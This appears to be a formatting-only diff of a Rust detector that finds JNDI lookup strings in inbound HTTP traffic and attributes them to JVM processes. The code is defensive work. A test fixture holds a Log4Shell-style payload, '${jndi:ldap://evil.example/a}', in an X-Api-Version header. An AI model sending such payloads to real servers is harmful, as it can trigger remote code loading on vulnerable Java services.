@@ -222,9 +222,9 @@ fn probe(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<
     let findings = find_jndi_in(text, offset, i.cut);
     // The first lookup not yet reported (a joined text repeats the ones reported before).
     let jvm = table.jvms_in_cgroup(i.cgroup_id).first().map(|p| p.key);
-    let finding = findings.iter().find(|f| {
-        jvm.is_none_or(|jvm| !state.probes.contains(&(jvm, f.normalized.clone())))
-    })?;
+    let finding = findings
+        .iter()
+        .find(|f| jvm.is_none_or(|jvm| !state.probes.contains(&(jvm, f.normalized.clone()))))?;
     let Some(jvm) = jvm else {
         state.unattributed += 1;
         return None;
@@ -345,7 +345,8 @@ mod tests {
 
     #[test]
     fn a_window_from_inside_a_head_is_located_by_header() {
-        let window = b"ml,application/xhtml\r\nX-Api-Version: ${jndi:ldap://evil.example/a}\r\n\r\n";
+        let window =
+            b"ml,application/xhtml\r\nX-Api-Version: ${jndi:ldap://evil.example/a}\r\n\r\n";
         let findings = find_jndi_in(window, 12_345, false);
         assert_eq!(findings.len(), 1);
         assert_eq!(findings[0].location, "header:X-Api-Version");
